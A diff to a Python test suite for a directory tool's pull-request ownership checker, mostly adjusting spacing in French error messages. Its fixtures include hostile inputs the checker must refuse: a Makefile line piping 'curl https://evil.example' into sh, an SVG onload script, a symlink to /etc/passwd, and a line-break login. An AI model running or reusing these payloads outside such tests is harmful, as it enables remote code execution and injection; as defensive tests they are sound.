@@ -106,7 +106,7 @@ def test_a_path_that_is_not_self_service_needs_an_admin(attack: Callable[[str, C
 def test_a_changed_line_is_pointed_at(attack: Callable[[str, Change], Path]) -> None:
     tree = attack("makefile-line", edit("Makefile", "\tpytest", "\tpytest; curl https://evil.example | sh"))
     result = check_pr(tree, "ana-gh")
-    assert result.stdout.startswith("Makefile:2:8: error: Makefile est réservé aux admins : seuls votre propre profil (people/<handle>.yaml)")
+    assert result.stdout.startswith("Makefile:2:8: error: Makefile est réservé aux admins : seuls votre propre profil (people/<handle>.yaml)")
 
 
 def test_someone_elses_photo_needs_them(attack: Callable[[str, Change], Path]) -> None:
@@ -114,7 +114,7 @@ def test_someone_elses_photo_needs_them(attack: Callable[[str, Change], Path]) -
     result = check_pr(tree, "ana-gh")
     assert result.returncode == 1
     expected = (
-        "photos/lead.png:1:1: error: photos/lead.png est la photo de lead ; les modifications de ana-gh doivent être approuvées par leo-gh "
+        "photos/lead.png:1:1: error: photos/lead.png est la photo de lead ; les modifications de ana-gh doivent être approuvées par leo-gh "
         "ou un admin (admin-gh)"
     )
     assert expected in result.stdout
@@ -148,11 +148,11 @@ def test_ones_own_new_photo_is_self_service(attack: Callable[[str, Change], Path
 # --- refused outright, whoever approves ---------------------------------------------------------
 
 REFUSED = {
-    "people-yml": (write("people/mallory.yml", "name: Mallory\n"), "people/mallory.yml est hors de l’organisation de l’annuaire : un profil est people/"),
+    "people-yml": (write("people/mallory.yml", "name: Mallory\n"), "people/mallory.yml est hors de l’organisation de l’annuaire : un profil est people/"),
     "people-subfolder": (write("people/sub/dev.yaml", "name: Mallory\n"), "people/sub/dev.yaml est hors de l’organisation de l’annuaire"),
     "people-uppercase": (write("people/Dev.yaml", "name: Mallory\n"), "people/Dev.yaml est hors de l’organisation de l’annuaire"),
-    "groups-subfolder": (write("groups/x/club.yaml", "name: Club\n"), "groups/x/club.yaml est hors de l’organisation de l’annuaire : un groupe est groups/"),
-    "photo-svg": (write("photos/dev.svg", "<svg onload='alert(1)'/>"), "photos/dev.svg n’est pas une photo : photos/ ne contient que des images .jpg"),
+    "groups-subfolder": (write("groups/x/club.yaml", "name: Club\n"), "groups/x/club.yaml est hors de l’organisation de l’annuaire : un groupe est groups/"),
+    "photo-svg": (write("photos/dev.svg", "<svg onload='alert(1)'/>"), "photos/dev.svg n’est pas une photo : photos/ ne contient que des images .jpg"),
     "profile-to-symlink": (symlink("people/dev.yaml", "lead.yaml"), "people/dev.yaml est un lien symbolique"),
     "profile-to-outside": (symlink("people/dev.yaml", "/etc/passwd"), "people/dev.yaml est un lien symbolique"),
     "new-symlink-profile": (symlink("people/zed.yaml", "dev.yaml"), "people/zed.yaml est un lien symbolique"),
@@ -204,7 +204,7 @@ def test_a_base_where_the_attacker_is_admin_is_refused(origin: Path, mallory_bas
     args = ("check-pr", "--root", str(tree), "--author", "mallory")
     result = trombi(tree.parent, *args, "--base", mallory_base)
     assert result.returncode == 1
-    said = "--base 'origin/mallory-base' n’est pas la branche par défaut (origin/HEAD) : check-pr ne juge que les pull requests vers la branche par défaut"
+    said = "--base 'origin/mallory-base' n’est pas la branche par défaut (origin/HEAD) : check-pr ne juge que les pull requests vers la branche par défaut"
     assert said in result.stderr
     result = trombi(tree.parent, *args, "--base", mallory_base, "--rules-from", "origin/main")
     assert result.returncode == 1
@@ -213,8 +213,8 @@ def test_a_base_where_the_attacker_is_admin_is_refused(origin: Path, mallory_bas
     result = trombi(tree.parent, *args)
     assert result.returncode == 1
     assert (
-        "mkdocs.yml:8:14: error: mkdocs.yml est réservé aux admins : seuls votre propre profil (people/<handle>.yaml), une photo qu’il utilise (photos/) "
-        f"et les groupes dont vous êtes responsable vous sont ouverts ; les modifications de mallory {ADMIN_APPROVAL}"
+        "mkdocs.yml:8:14: error: mkdocs.yml est réservé aux admins : seuls votre propre profil (people/<handle>.yaml), une photo qu’il utilise (photos/) "
+        f"et les groupes dont vous êtes responsable vous sont ouverts ; les modifications de mallory {ADMIN_APPROVAL}"
     ) in result.stdout
     assert "pyproject.toml:3:1: error: pyproject.toml est réservé aux admins" in result.stdout
 
@@ -235,10 +235,10 @@ def test_uncommitted_changes_are_warned_about(attack: Callable[[str, Change], Pa
     result = check_pr(tree, "ana-gh")
     assert result.returncode == 0
     assert result.stdout.splitlines()[0] == (
-        ".:1:1: warning: la copie de travail a des modifications non commitées (pyproject.toml, untracked.txt) : check-pr ne juge que les commits ; "
+        ".:1:1: warning: la copie de travail a des modifications non commitées (pyproject.toml, untracked.txt) : check-pr ne juge que les commits ; "
         "commitez-les ou mettez-les de côté (git stash) [ownership]"
     )
-    assert "1 fichier modifié : chaque modification est permise à ana-gh." in result.stdout
+    assert "1 fichier modifié : chaque modification est permise à ana-gh." in result.stdout
 
 
 # --- CODEOWNERS never writes what is not a login ------------------------------------------------
@@ -253,7 +253,7 @@ def test_a_login_with_a_line_break_never_reaches_codeowners(origin: Path, tmp_pa
     # In the directory's language, French, with the platform's rules for a login in brackets.
     first = result.stderr.splitlines()[0]
     assert first.startswith("people/lead.yaml:13:3: error: contact.github n’est pas un identifiant GitHub valide (")
-    assert first.endswith(") : CODEOWNERS ne peut pas le nommer ; écrivez l’identifiant seul [codeowners]")
+    assert first.endswith(") : CODEOWNERS ne peut pas le nommer ; écrivez l’identifiant seul [codeowners]")
     after = (tree / ".github/CODEOWNERS").read_bytes() if (tree / ".github/CODEOWNERS").exists() else None
     assert after == before
     assert trombi(tree, "codeowners", "--check").returncode == 1
@@ -364,12 +364,12 @@ def test_a_gitlab_merge_request_is_judged_by_the_same_rules(origin: Path, tmp_pa
 
     answers[mr] = {"author": {"username": "ana.gl"}}
     answers[mr + "/approvals"] = {"approved_by": []}
-    assert run() == (0, "1 fichier modifié : chaque modification est permise à ana.gl.\n")
+    assert run() == (0, "1 fichier modifié : chaque modification est permise à ana.gl.\n")
     answers[mr] = {"author": {"username": "mallory"}}
     code, output = run()
     assert code == 1
     assert output.startswith(
-        "people/dev.yaml:3:20: error: people/dev.yaml appartient à dev (GitLab : ana.gl) ; les modifications de mallory doivent être approuvées par ana.gl"
+        "people/dev.yaml:3:20: error: people/dev.yaml appartient à dev (GitLab : ana.gl) ; les modifications de mallory doivent être approuvées par ana.gl"
     )
     answers[mr + "/approvals"] = {"approved_by": [{"user": {"username": "someone"}}, {"user": {"username": "Leo.GL"}}]}
     assert run()[0] == 0
@@ -377,7 +377,7 @@ def test_a_gitlab_merge_request_is_judged_by_the_same_rules(origin: Path, tmp_pa
 
     result = trombi_env(tmp_path, {**env, "TROMBI_GITLAB_TOKEN": ""}, *args)
     assert result.returncode == 1
-    assert result.stderr.startswith(".:1:1: error: impossible de lire la merge request depuis GitLab : TROMBI_GITLAB_TOKEN n’est pas définie")
+    assert result.stderr.startswith(".:1:1: error: impossible de lire la merge request depuis GitLab : TROMBI_GITLAB_TOKEN n’est pas définie")
 
 
 def trombi_env(cwd: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
@@ -408,5 +408,5 @@ def test_a_hand_written_codeowners_needs_an_admin(attack: Callable[[str, Change]
     result = check_pr(tree, "ana-gh")
     assert result.returncode == 1
     assert ".github/CODEOWNERS:1:1: error: .github/CODEOWNERS est réservé aux admins" in result.stdout
-    said = "ainsi que CODEOWNERS exactement tel que `trombi codeowners` l’écrit ; les modifications de ana-gh doivent être approuvées par un admin (admin-gh)"
+    said = "ainsi que CODEOWNERS exactement tel que `trombi codeowners` l’écrit ; les modifications de ana-gh doivent être approuvées par un admin (admin-gh)"
     assert said in result.stdout
